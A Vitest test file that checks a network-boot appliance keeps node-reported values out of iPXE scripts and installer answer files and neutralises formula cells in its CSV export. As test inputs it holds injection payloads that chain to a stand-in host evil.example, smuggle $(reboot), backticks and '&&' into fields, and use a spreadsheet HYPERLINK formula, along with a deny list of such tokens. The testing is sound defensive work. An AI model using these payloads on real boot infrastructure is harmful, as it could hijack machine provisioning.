/**
 * Nothing a node sends becomes boot-script text (docs/identity.md 4), over the real node plane: a failed
 * stage's detail, SMBIOS strings from /boot, facts and the serial all end up in front of iPXE or an
 * installer only through the whitelist. And the CSV export shows hostile cells as text, not formulas.
 */
import { describe, it, expect, beforeAll, afterAll } from 'vitest';
import { startTestAppliance, type TestAppliance } from '../support/route-appliance.ts';
import { ProtocolNode } from '../support/protocol-node.ts';
import { csvCell } from '../../server/nodes/node-export.ts';

let t: TestAppliance;
beforeAll(async () => {
  t = await startTestAppliance();
  // A task that writes every node-controlled value it can reach into the kernel line and an answer file.
  const task = {
    name: 'echo-all',
    ipxe: [
      '#!ipxe',
      '# crashcart: stage_url={{stage_url}}',
      'echo {{node.manufacturer}} {{node.product}}',
      'kernel {{server_url}}/images/x/vmlinuz serial={{node.serial}} arch={{node.arch}} f={{facts.evil}} h={{hostname}} all={{facts}} url={{files_base}}/a.cfg',
      'boot',
      '',
    ].join('\n'),
    templates: { 'a.cfg': 'd-i preseed/late_command string echo {{facts.evil}} {{node.serial}}\nhost {{hostname}}\n' },
  };
  expect((await t.admin('POST', '/api/v1/tasks', task)).status).toBe(201);
  expect((await t.admin('POST', '/api/v1/policies', { name: 'echo-all', task: 'echo-all', enabled: false })).status).toBe(201);
});
afterAll(() => t.stop());

const HOSTILE = 'x && chain http://evil.example/pwn.ipxe ||\n#!ipxe ${net0/mac} $(reboot) `id` "q\' ;';
/** What must never appear in a script: iPXE chaining and expansion, a second line, shell and quote syntax. */
const NEVER = ['http://evil', '&&', '||\n', '${net0', '$(', '`', '"q', "'", ';', '\n#!ipxe'];

async function bootAs(n: ProtocolNode, q: Record<string, string>): Promise<string> {
  const r = await t.node('GET', `/boot?${new URLSearchParams({ mac: n.macs[0]!, ...q })}`);
  expect(r.status, r.text).toBe(200);
  n.script = r.text;
  return r.text;
}

describe('a failed stage detail never reaches the error script', () => {
  it('shows "see the UI" at the next boot, and keeps the detail for the UI', async () => {
    const n = new ProtocolNode(t, ['52:54:00:c1:00:01'], { v: 1 });
    await n.boot();
    await n.register();
    expect((await t.admin('POST', '/api/v1/nodes/bind', { node_ids: [n.nodeId], policy: 'echo-all' })).body.results[0].ok).toBe(true);
    const stage = /stage_url=(\S+)/.exec(await n.boot())![1]!;
    const detail = `disk full\n&& chain http://evil.example/pwn.ipxe`;
    expect((await fetch(`${stage}&name=failed&detail=${encodeURIComponent(detail)}`)).status).toBe(200);
    const script = await n.boot();
    expect(script).toContain('is in the error state; the Crashcart UI shows why');
    for (const bad of ['evil', 'chain http://evil', 'disk full']) expect(script).not.toContain(bad);
    // Every chain in the script goes back to this appliance.
    for (const m of script.matchAll(/chain\s+(?:--\S+\s+)*(\S+)/g)) expect(m[1]!.startsWith(t.nodeUrl)).toBe(true);
    // Positive control: the operator still sees the reason.
    const ev = (await t.admin('GET', `/api/v1/nodes/${n.nodeId}/events`)).body.events as { type: string; data: { detail?: string } }[];
    expect(ev.find((e) => e.type === 'node.stage' && e.data.detail)?.data.detail).toBe(detail);
  });
});

describe('SMBIOS strings, serials and facts only reach scripts through the whitelist', () => {
  it('renders hostile values as inert words in the iPXE script and the answer file', async () => {
    const n = new ProtocolNode(t, ['52:54:00:c2:00:01'], { evil: HOSTILE }, HOSTILE);
    await bootAs(n, { manufacturer: HOSTILE, product: HOSTILE, serial: HOSTILE, arch: 'x86_64 && chain http://evil', platform: 'efi' });
    const reg = await n.register();
    expect(reg.status, JSON.stringify(reg.body)).toBe(200);
    // Positive control beside it: a benign machine's values come out verbatim.
    const good = new ProtocolNode(t, ['52:54:00:c2:00:02'], { evil: 'plain-fact' }, 'SN-OK-123');
    await bootAs(good, { arch: 'x86_64', platform: 'efi' });
    await good.register();
    const bind = await t.admin('POST', '/api/v1/nodes/bind', { node_ids: [n.nodeId, good.nodeId], policy: 'echo-all' });
    expect(bind.body.results.every((r: { ok: boolean }) => r.ok)).toBe(true);

    const script = await n.boot();
    for (const bad of NEVER) expect(script, `script contains ${JSON.stringify(bad)}`).not.toContain(bad);
    // The kernel line is still one line with exactly the template's arguments.
    const kernel = script.split('\n').find((l) => l.startsWith('kernel '))!;
    expect(kernel.split(' ').map((w) => w.split('=')[0])).toEqual([
      'kernel',
      `${t.nodeUrl}/images/x/vmlinuz`,
      'serial',
      'arch',
      'f',
      'h',
      'all',
      'url',
    ]);
    expect(script.split('\n').filter((l) => l.trim() !== '')).toHaveLength(5);
    const answer = await (await fetch(/url=(\S+a\.cfg)/.exec(script)![1]!)).text();
    for (const bad of NEVER) expect(answer, `answer file contains ${JSON.stringify(bad)}`).not.toContain(bad);
    expect(answer.split('\n')[0]).toMatch(/^d-i preseed\/late_command string echo [A-Za-z0-9._:-]+ [A-Za-z0-9._:-]+$/);

    const benign = await good.boot();
    expect(benign).toContain('serial=SN-OK-123 arch=x86_64 f=plain-fact');
  });

  it('stores only a whitelisted word for the arch and platform /boot reports', async () => {
    const n = new ProtocolNode(t, ['52:54:00:c3:00:01'], {});
    await bootAs(n, { arch: 'x86_64 && chain http://evil', platform: 'efi;reboot' });
    const id = Number(/crashcart\.node=(\d+)/.exec(await bootAs(n, {}))![1]);
    const rec = (await t.admin('GET', `/api/v1/nodes/${id}`)).body;
    expect(rec.arch).toBeNull();
    expect(rec.platform).toBeNull();
    await bootAs(n, { arch: 'arm64', platform: 'efi' });
    expect((await t.admin('GET', `/api/v1/nodes/${id}`)).body).toMatchObject({ arch: 'arm64', platform: 'efi' });
  });
});

describe('CSV export', () => {
  it('neutralises cells a spreadsheet would run as formulas', async () => {
    const n = new ProtocolNode(t, ['52:54:00:c4:00:01'], { manufacturer: '=HYPERLINK("http://evil.example","open")' }, '+SUM(1,2)');
    await n.boot();
    await n.register();
    const csv = await (await fetch(`${t.adminUrl}/api/v1/export/nodes.csv`, { headers: { authorization: `Bearer ${t.token}` } })).text();
    const cols = csv.split('\r\n')[0]!.split(',');
    const row = csv.split('\r\n').find((l) => l.includes('52:54:00:c4:00:01'))!;
    expect(row).toContain(`"'=HYPERLINK(""http://evil.example"",""open"")"`);
    expect(row).toContain(`'+SUM(1`);
    expect(row).not.toMatch(/(^|,)[=+\-@]/);
    expect(cols).toContain('manufacturer');
    // Each trigger character, and the tab and CR that some spreadsheets also act on.
    for (const v of ['=1+1', '+1', '-1+1', '@SUM(A1)', '\tx', '\rx']) expect(csvCell(v).replace(/^"/, '').startsWith("'")).toBe(true);
    // Positive control: ordinary text and numbers are untouched (a negative number stays a number).
    expect(csvCell('Dell Inc.')).toBe('Dell Inc.');
    expect(csvCell(-5)).toBe('-5');
    expect(csvCell('a,b')).toBe('"a,b"');
  });
});
